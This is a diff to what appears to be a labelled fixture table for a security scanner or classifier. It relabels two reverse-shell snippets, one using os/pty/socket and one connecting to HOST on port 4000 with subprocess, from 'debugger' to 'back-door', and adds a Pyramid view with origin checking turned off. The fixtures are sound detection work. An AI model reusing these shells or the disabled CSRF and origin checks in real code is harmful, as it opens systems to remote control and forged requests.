@@ -227,7 +227,7 @@ TWINS = (
     ),
     Twins(
         "a shell joined to a connection by its numbers",
-        "debugger",
+        "back-door",
         """
         import os, pty, socket
         def help():
@@ -249,7 +249,7 @@ TWINS = (
     ),
     Twins(
         "a shell that is given a connection",
-        "debugger",
+        "back-door",
         """
         import socket, subprocess
         line = socket.create_connection((HOST, 4000))
@@ -373,6 +373,12 @@ TWINS = (
         "@view_config(route_name='pay', require_csrf=False)\ndef pay(request):\n    return {}\n",
         "@view_config(route_name='pay', require_csrf=True)\ndef pay(request):\n    return {}\n",
         "weak",
+    ),
+    Twins(
+        "a view that asks not where a request comes from",
+        "csrf-exempt",
+        "@view_config(route_name='pay', check_origin=False)\ndef pay(request):\n    return {}\n",
+        "@view_config(route_name='pay', check_origin=True)\ndef pay(request):\n    return {}\n",
     ),
     Twins(
         "a mode for tests written into what is shipped",
